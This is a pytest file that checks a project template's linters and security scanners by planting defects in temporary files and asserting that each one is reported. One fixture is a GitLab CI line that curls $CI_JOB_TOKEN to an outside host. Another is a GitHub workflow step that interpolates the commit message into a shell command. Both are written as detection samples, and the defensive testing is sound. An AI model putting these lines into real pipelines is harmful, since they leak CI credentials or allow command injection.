"""Each static checker finds a planted defect and reports its file and line (a check that cannot
fail is a defect), and passes the clean file next to it."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from checks import all_checkers
from conftest import read_answers

CHECKERS = all_checkers()

# checker name -> (file, clean content, defective content, line of the defect)
PLANTED = {
    "jinja-leftovers": ("README.md", "# ok ${{ github.sha }}\n", "# title\n{{ project_name }}\n", 2),
    "parse-yaml-json-toml": ("params.yaml", "a: 1\n", "a: 1\nb: [unclosed\n", 3),
    "python-compiles": ("pkg/mod.py", "x = 1\n", "x = 1\ndef broken(:\n", 2),
    "ruff": ("pkg/mod.py", "import os\n\nprint(os.sep)\n", "import os\nimport sys\n\nprint(os.sep)\n", 2),
    "shellcheck": ("run.sh", '#!/bin/sh\necho "$1"\n', "#!/bin/sh\necho $1\n", 2),
}


@pytest.mark.parametrize("name", PLANTED)
def test_checker_reports_planted_defect(tmp_path, name):
    relative, clean, defective, line = PLANTED[name]
    path = tmp_path / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(clean)
    assert CHECKERS[name].run(tmp_path, {}) == []
    path.write_text(defective)
    findings = CHECKERS[name].run(tmp_path, {})
    assert findings, f"{name} missed the planted defect"
    assert any(f.path == relative and f.line == line for f in findings), findings


def test_answers_file_checker_reports_missing_answer(default_project):
    answers = read_answers(default_project)
    assert CHECKERS["answers-file"].run(default_project, answers) == []
    del answers["gpu_type"]
    findings = CHECKERS["answers-file"].run(default_project, answers)
    assert [f.message for f in findings] == ["missing answer for gpu_type"]


def test_answers_file_checker_reports_an_answer_never_asked(default_project):
    answers = {**read_answers(default_project), "gcp_region": "us-central1"}
    findings = CHECKERS["answers-file"].run(default_project, answers)
    assert [f.message for f in findings] == ["records gcp_region, which is never asked"]


def test_module_readme_checker_reports_a_missing_readme_and_an_undocumented_input(default_project, tmp_path):
    module = Path("infra/terraform/aws/modules/kms")
    shutil.copytree(default_project / module, tmp_path / module)
    check = CHECKERS["terraform-module-readme"].run
    assert check(tmp_path, {}) == []
    readme = tmp_path / module / "README.md"
    text = readme.read_text()
    readme.write_text(re.sub(r"^\| `deletion_window_in_days` \|.*\n", "", text, flags=re.M))
    assert [f.message for f in check(tmp_path, {})] == ["inputs/outputs tables differ from variables.tf/outputs.tf"]
    readme.rename(readme.with_name("README.mb"))
    assert [(f.path, f.message) for f in check(tmp_path, {})] == [(str(module / "README.md"), "missing")]


def test_checkov_skip_file_checker_reports_a_skip_listed_twice_or_without_reason(tmp_path):
    check = CHECKERS["checkov-skips-have-reasons"].run
    skip_file = tmp_path / ".checkov.yaml"
    reason = "# the bucket is a log sink"
    skip_file.write_text(f"skip-check:\n  - CKV_AWS_18  {reason}\n  - CKV_AWS_144  {reason}\n")
    assert check(tmp_path, {}) == []
    skip_file.write_text(f"skip-check:\n  - CKV_AWS_18  {reason}\n  - CKV_AWS_18  {reason}\n  - CKV_AWS_1\n")
    assert [(f.line, f.message) for f in check(tmp_path, {})] == [
        (3, "CKV_AWS_18: listed twice"),
        (4, "CKV_AWS_1: skipped without a reason"),
    ]


def test_checkov_reports_a_scan_of_no_resource(tmp_path):
    (tmp_path / ".checkov.yaml").write_text("skip-check:\n  - CKV_AWS_18  # the bucket is a log sink\n")
    (tmp_path / "infra" / "terraform").mkdir(parents=True)
    (tmp_path / "infra" / "terraform" / "main.tf").write_text('variable "x" {\n  type = string\n}\n')
    assert [f.message for f in CHECKERS["checkov-terraform"].run(tmp_path, {})] == ["checkov scanned no resource"]


# The CI pipeline checkers (tests/checks/ci_pipelines.py): a clean workflow passes each, one planted
# defect per checker is reported at its file (and line, where the tool gives one).
CLEAN_WORKFLOW = """\
name: x
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: echo hi
"""
WORKFLOW_DEFECTS = {
    "ci-schemas": ("    steps:\n", "    stepz:\n", None),
    "actionlint": ("    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    needs: nowhere\n", 5),
    "zizmor": ("      - run: echo hi\n", '      - run: echo "${{ github.event.head_commit.message }}"\n', 13),
    "checkov-github-actions": ("permissions: {}\n", "permissions: write-all\n", None),
    "workflow-pins": ("3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "v7.0.1", 10),
}


@pytest.mark.parametrize("name", WORKFLOW_DEFECTS)
def test_ci_checker_reports_planted_defect(tmp_path, name):
    old, new, line = WORKFLOW_DEFECTS[name]
    path = tmp_path / ".github" / "workflows" / "x.yml"
    path.parent.mkdir(parents=True)
    (tmp_path / ".checkov.yaml").write_text("skip-check: []\n")
    answers = {"ci_provider": "github"}
    path.write_text(CLEAN_WORKFLOW)
    assert CHECKERS[name].run(tmp_path, answers) == []
    path.write_text(CLEAN_WORKFLOW.replace(old, new))
    findings = CHECKERS[name].run(tmp_path, answers)
    assert findings, f"{name} missed the planted defect"
    assert any(f.path.endswith(".github/workflows/x.yml") and line in (None, f.line) for f in findings), findings


def test_ci_schema_checker_reports_gitlab_defect(tmp_path):
    answers = {"ci_provider": "gitlab"}
    path = tmp_path / ".gitlab-ci.yml"
    path.write_text("lint:\n  script: [make lint]\n")
    assert CHECKERS["ci-schemas"].run(tmp_path, answers) == []
    path.write_text("lint:\n  script: [make lint]\n  when: sometimes\n")
    assert CHECKERS["ci-schemas"].run(tmp_path, answers)


def test_pin_checker_rejects_a_sha_outside_the_table(tmp_path):
    path = tmp_path / ".github" / "workflows" / "x.yml"
    path.parent.mkdir(parents=True)
    path.write_text(CLEAN_WORKFLOW.replace("3d3c42e5aac5ba805825da76410c181273ba90b1", "0" * 40))
    findings = CHECKERS["workflow-pins"].run(tmp_path, {"ci_provider": "github"})
    assert [f.line for f in findings] == [10], findings


def test_checkov_gitlab_ci_checker_reports_planted_defect(tmp_path):
    # CKV_GITLABCI_1: a curl in a script that sends a CI variable somewhere.
    (tmp_path / ".checkov.yaml").write_text("skip-check: []\n")
    path = tmp_path / ".gitlab-ci.yml"
    path.write_text("lint:\n  script:\n    - make lint\n")
    answers = {"ci_provider": "gitlab"}
    assert CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers) == []
    path.write_text('lint:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com\n')
    findings = CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers)
    assert findings and all(f.path.endswith(".gitlab-ci.yml") for f in findings), findings


# ── Images and Kubernetes: the checkers find a defect planted in a copy of the default project ──
def _copy_of(project, tmp_path):
    copy = tmp_path / "project"
    shutil.copytree(project, copy, ignore=shutil.ignore_patterns(".git"))
    return copy


def _break(path, old, new):
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


def test_hadolint_reports_a_planted_defect_and_a_broken_config(default_project, tmp_path):
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    assert CHECKERS["hadolint"].run(project, answers) == []
    _break(project / "docker/serve/Dockerfile", "WORKDIR /srv", "WORKDIR /srv\nRUN cd /tmp")
    findings = CHECKERS["hadolint"].run(project, answers)
    assert any(f.path == "docker/serve/Dockerfile" and f.message.startswith("DL3003") for f in findings), findings
    (project / ".hadolint.yaml").write_text("ignored:\n  # reason\n[]\n")  # hadolint itself exits 0 on this
    assert CHECKERS["hadolint"].run(project, answers), "a broken .hadolint.yaml must be reported"


def test_checkov_dockerfile_reports_a_root_image(default_project, tmp_path):
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    _break(project / "docker/serve/Dockerfile", "USER 10001:10001\n", "")
    findings = CHECKERS["checkov-dockerfile"].run(project, answers)
    assert any("CKV_DOCKER_3" in f.message for f in findings), findings


def test_kubernetes_checkers_report_planted_defects(default_project, tmp_path):
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    base = project / "deploy/k8s/base"
    # An unknown field: kustomize renders it, the strict schema validation refuses it.
    _break(base / "serve.yaml", "      automountServiceAccountToken: false", "      automountServiceAcountToken: false")
    findings = CHECKERS["kubernetes-validate"].run(project, answers)
    assert findings and all(f.path.startswith("deploy/k8s/overlays/aws/") for f in findings), findings
    assert any("automountServiceAcountToken" in f.message for f in findings), findings

    project = _copy_of(default_project, tmp_path / "2")
    _break(project / "deploy/k8s/base/serve.yaml", "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true")
    findings = CHECKERS["checkov-kubernetes"].run(project, answers)
    assert any("CKV_K8S_20" in f.message and f.path == "deploy/k8s/overlays/aws/dev" for f in findings), findings

    project = _copy_of(default_project, tmp_path / "3")
    _break(project / "deploy/k8s/base/kustomization.yaml", "  - serve.yaml", "  - serve.yaml\n  - missing.yaml")
    findings = CHECKERS["kustomize"].run(project, answers)
    assert len(findings) == len(answers["environments"]) and "missing.yaml" in findings[0].message, findings
    shutil.rmtree(project / "deploy/k8s/overlays/aws/prod")
    assert any(f.message == "missing overlay" for f in CHECKERS["kustomize"].run(project, answers))


def test_kubernetes_checkers_report_planted_defects_in_the_cluster_addons(default_project, tmp_path):
    """deploy/k8s/cluster/aws/<env> (EKS add-ons, kube-system) goes through the same checkers."""
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    addons = project / "deploy/k8s/cluster/aws/base/cluster-autoscaler.yaml"
    _break(addons, "priorityClassName: system-cluster-critical", "priorityClasName: system-cluster-critical")
    findings = CHECKERS["kubernetes-validate"].run(project, answers)
    assert findings and all(f.path.startswith("deploy/k8s/cluster/aws/") for f in findings), findings

    project = _copy_of(default_project, tmp_path / "2")
    addons = project / "deploy/k8s/cluster/aws/base/cluster-autoscaler.yaml"
    _break(addons, "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true")
    findings = CHECKERS["checkov-kubernetes"].run(project, answers)
    assert any("CKV_K8S_20" in f.message and f.path == "deploy/k8s/cluster/aws/dev" for f in findings), findings

    project = _copy_of(default_project, tmp_path / "3")
    kustomization = project / "deploy/k8s/cluster/aws/base/kustomization.yaml"
    _break(kustomization, "  - cluster-autoscaler.yaml", "  - missing.yaml")
    findings = CHECKERS["kustomize"].run(project, answers)
    assert len(findings) == len(answers["environments"]) and "missing.yaml" in findings[0].message, findings
    shutil.rmtree(project / "deploy/k8s/cluster/aws/prod")
    assert any(f.message == "missing cluster add-ons" for f in CHECKERS["kustomize"].run(project, answers))


def test_systemd_analyze_reports_an_unknown_key_and_a_bad_value(tmp_path):
    units = tmp_path / "deploy/vm/units"
    units.mkdir(parents=True)
    unit = units / "app.service"
    unit.write_text("[Unit]\nDescription=app\n\n[Service]\nExecStart=/usr/bin/true\nRestartSec=10\n")
    answers = {"compute_platform": "vm"}
    assert CHECKERS["systemd-analyze"].run(tmp_path, answers) == []
    unit.write_text("[Unit]\nDescription=app\n\n[Service]\nExecStart=/usr/bin/true\nRestartSec=ten\nRestartAlways=1\n")
    findings = CHECKERS["systemd-analyze"].run(tmp_path, answers)
    path = "deploy/vm/units/app.service"
    assert [(f.path, f.line) for f in findings] == [(path, 6), (path, 7)], findings


def test_promtool_reports_a_broken_rule_and_an_alert_that_no_longer_fires(default_project, tmp_path):
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    assert CHECKERS["promtool"].run(project, answers) == []
    rules = project / "monitoring/rules/serving.rules.yml"
    # A threshold raised ten-fold: the rules still parse, the unit test's failing series no longer fires.
    _break(rules, "serve:predict_errors:ratio_rate5m > 0.05", "serve:predict_errors:ratio_rate5m > 0.5")
    findings = CHECKERS["promtool"].run(project, answers)
    assert [f.path for f in findings] == ["monitoring/tests/serving.test.yml"], findings
    assert "ServeHighErrorRate" in findings[0].message, findings
    _break(rules, "> 0.5", "> > 0.5")
    findings = CHECKERS["promtool"].run(project, answers)
    assert any(f.path == "monitoring/rules/serving.rules.yml" for f in findings), findings


def test_prometheus_operator_checker_reports_a_schema_error_and_bad_promql(default_project, tmp_path):
    project = _copy_of(default_project, tmp_path)
    answers = read_answers(project)
    monitoring = project / "deploy/k8s/base/monitoring.yaml"
    _break(monitoring, "        expr: max(drift_detected) > 0", "        exp: max(drift_detected) > 0")
    findings = CHECKERS["prometheus-operator"].run(project, answers)
    assert any("must have required property expr" in f.message for f in findings), findings
    assert all(f.path.startswith("deploy/k8s/overlays/aws/") for f in findings), findings

    project = _copy_of(default_project, tmp_path / "2")
    _break(project / "deploy/k8s/base/monitoring.yaml", "max(drift_detected) > 0", "max(drift_detected) >")
    findings = CHECKERS["prometheus-operator"].run(project, answers)
    assert findings and all("PrometheusRule" in f.message for f in findings), findings


def test_amtool_reports_a_route_to_an_unknown_receiver_and_a_missing_config(default_project, tmp_path):
    config = tmp_path / "monitoring/alertmanager.yml"
    config.parent.mkdir(parents=True)
    shutil.copy(default_project / "monitoring/alertmanager.yml", config)
    assert CHECKERS["amtool"].run(tmp_path, {}) == []
    _break(config, "receiver: email-critical", "receiver: email-urgent")
    findings = CHECKERS["amtool"].run(tmp_path, {})
    assert [f.path for f in findings] == ["monitoring/alertmanager.yml"], findings
    assert 'undefined receiver "email-urgent"' in findings[0].message, findings
    config.unlink()
    assert [f.message for f in CHECKERS["amtool"].run(tmp_path, {})] == [
        "no Alertmanager configuration: the alerts reach no one"
    ]


def test_jinja_leftovers_allows_ssm_document_parameters_only(tmp_path):
    document = tmp_path / "infra/identity/vm_ci.tf"
    document.parent.mkdir(parents=True)
    document.write_text('runCommand = ["/usr/local/libexec/p/ci deploy {{ ImageTag }}"]\n')
    assert CHECKERS["jinja-leftovers"].run(tmp_path, {}) == []
    document.write_text('runCommand = ["/usr/local/libexec/{{ project_slug }}/ci deploy {{ ImageTag }}"]\n')
    findings = CHECKERS["jinja-leftovers"].run(tmp_path, {})
    assert [(f.path, f.line) for f in findings] == [("infra/identity/vm_ci.tf", 1)], findings


def test_jinja_leftovers_allows_grafana_legends_only(tmp_path):
    dashboard = tmp_path / "monitoring/grafana/serving.json"
    dashboard.parent.mkdir(parents=True)
    dashboard.write_text('{"legendFormat": "p99 {{variant}}", "refId": "A"}\n')
    assert CHECKERS["jinja-leftovers"].run(tmp_path, {}) == []
    dashboard.write_text('{"legendFormat": "p99 {{variant}}", "title": "{{ project_name }}"}\n')
    findings = CHECKERS["jinja-leftovers"].run(tmp_path, {})
    assert [(f.path, f.line) for f in findings] == [("monitoring/grafana/serving.json", 1)], findings
